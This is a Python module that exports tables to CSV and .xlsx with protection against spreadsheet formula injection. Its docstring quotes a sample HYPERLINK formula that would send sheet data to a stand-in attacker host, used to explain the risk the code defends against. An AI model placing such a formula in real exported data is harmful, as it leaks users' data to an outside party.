"""Write tables as CSV or ``.xlsx`` that a spreadsheet opens safely.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and some treat a leading tab or CR the same way): a measurable
someone titled ``=HYPERLINK("http://evil.example?"&A1,"Click")`` would
become a live link carrying the sheet's data away. Every text cell that
starts that way is written as text: in CSV with a leading ``'`` (the quote
a spreadsheet hides and ``tables.read_text`` removes again), in ``.xlsx``
as a cell of string type. Numbers (``-1200``, ``-12.5``) are not text and
are written as they are. Reading back gives the same text, so export ->
import is lossless.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence

Cell = str | int | float | None
Rows = Sequence[Sequence[Cell]]

_RISKY = re.compile(r"^'*[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d[\d,]*)?\.?\d+$")


def is_risky(text: str) -> bool:
    """Would a spreadsheet run this text cell (or is it an already-quoted one that must stay quoted)?"""
    return bool(_RISKY.match(text)) and not _PLAIN_NUMBER.match(text)


def neutralise(cell: Cell) -> Cell:
    """The CSV form of a cell: risky text gets a leading ``'``; numbers and other text are unchanged."""
    if isinstance(cell, str) and is_risky(cell):
        return "'" + cell
    return cell


def csv_text(rows: Rows) -> str:
    """Rows as CSV (``\\n`` line ends), every risky text cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    # csv quotes a field holding "\n" but not one holding a lone "\r", which a reader then splits on
    quoting_all = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = ["" if cell is None else neutralise(cell) for cell in row]
        (quoting_all if any(isinstance(cell, str) and "\r" in cell for cell in cells) else writer).writerow(cells)
    return out.getvalue()


def xlsx_bytes(sheets: Sequence[tuple[str, Rows]]) -> bytes:
    """A workbook with one sheet per ``(name, rows)``; text cells are string cells, never formulas."""
    import openpyxl  # only an .xlsx export pays for it

    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets:
        sheet = book.create_sheet(title=_sheet_title(name))
        for row_number, row in enumerate(rows, start=1):
            for column_number, value in enumerate(row, start=1):
                if value is None or value == "":
                    continue
                cell = sheet.cell(row=row_number, column=column_number)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"  # openpyxl would store "=..." as a formula
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _sheet_title(name: str) -> str:
    """Excel allows 31 characters and none of ``[]:*?/\\`` in a sheet's name."""
    cleaned = re.sub(r"[\[\]:*?/\\]", "-", name).strip("'") or "Sheet"
    return cleaned[:31]
